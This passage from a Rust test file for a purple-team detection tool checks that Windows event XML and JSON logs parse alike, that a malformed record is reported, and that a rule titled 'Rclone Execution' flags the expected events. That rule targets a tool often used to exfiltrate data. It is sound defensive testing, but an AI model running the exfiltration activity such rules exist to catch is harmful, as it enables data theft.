    assert!(x.diagnostics.is_empty(), "{:?}", x.diagnostics);
    let j = purplecov::telemetry::read::read_path(&dir.join("wevtutil.json"), 0);
    assert!(j.diagnostics.is_empty(), "{:?}", j.diagnostics);
    let fields = |evs: &[Event]| evs.iter().map(|e| e.fields.clone()).collect::<Vec<_>>();
    assert_eq!(x.events.len(), 3);
    assert_eq!(fields(&x.events), fields(&j.events));
}

#[test]
fn eval_reads_event_xml() {
    let r = common::purplecov(&[
        "eval",
        "--rules",
        "tests/fixtures/rules",
        "--input",
        "tests/fixtures/xml/wevtutil.xml",
        "tests/fixtures/xml/malformed.xml",
        "--format",
        "jsonl",
    ]);
    // malformed.xml has a broken record: reported, exit code 2, the others evaluated.
    assert_eq!(r.code, 2, "stderr: {}", r.stderr);
    assert!(
        r.stderr.contains(
            "tests/fixtures/xml/malformed.xml:9:37: error: expected `</Data>`, found `</EventData>`"
        ),
        "{}",
        r.stderr
    );
    let hits: Vec<(u64, String)> = r
        .stdout
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("a JSON line");
            (
                v["event"].as_u64().expect("event"),
                v["rule_title"].as_str().expect("title").to_string(),
            )
        })
        .collect();
    // wevtutil.xml: event 0 is Sysmon 1 rclone, event 2 Security 4688 rclone; malformed.xml: its
    // first record is broken, its second and third are events 3 and 4 (rclone again, notepad).
    assert_eq!(
        hits,
        [
            (0, "Rclone Execution".to_string()),
            (2, "Rclone Execution".to_string()),
            (3, "Rclone Execution".to_string()),
        ]
    );
    assert!(
        r.stderr.contains("purplecov eval: 5 events,"),
        "{}",
        r.stderr
    );
}
